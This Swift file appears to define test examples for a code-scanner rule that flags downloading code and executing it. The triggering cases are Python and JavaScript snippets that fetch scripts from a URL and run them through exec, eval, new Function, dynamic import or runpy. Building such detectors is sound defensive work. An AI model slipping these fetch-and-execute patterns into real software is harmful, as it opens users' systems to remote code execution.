import SkillScanCore

extension CodeDownloadExecuteRule {
  static let triggering: [Example] = [
    Example("import requests\n↓exec(requests.get('https://cdn.example.net/plugin.py').text)\n", language: .python),
    Example("from urllib.request import urlopen\nsrc = urlopen(URL).read()\ncode = src.decode()\n↓exec(code)\n", language: .python, note: "data flow through two assignments"),
    Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
    Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
    Example("const mod = await ↓import('https://cdn.example.net/mod.js');\n", language: .javascript),
    Example("import urllib.request, runpy\nurllib.request.urlretrieve(URL, '/tmp/helper.py')\n↓runpy.run_path('/tmp/helper.py')\n", language: .python),
  ]

  static let nonTriggering: [Example] = [
    Example("import requests\ndata = requests.get(API).json()\nprint(data['items'])\n", language: .python, note: "fetched data is used as data"),
    Example("const res = await fetch(url);\nconst json = await res.json();\nrender(json);\n", language: .javascript, note: "no exec sink"),
    Example("code = open('local_plugin.py').read()\nexec(code)\n", language: .python, note: "executes a bundled file, nothing downloaded"),
  ]
}
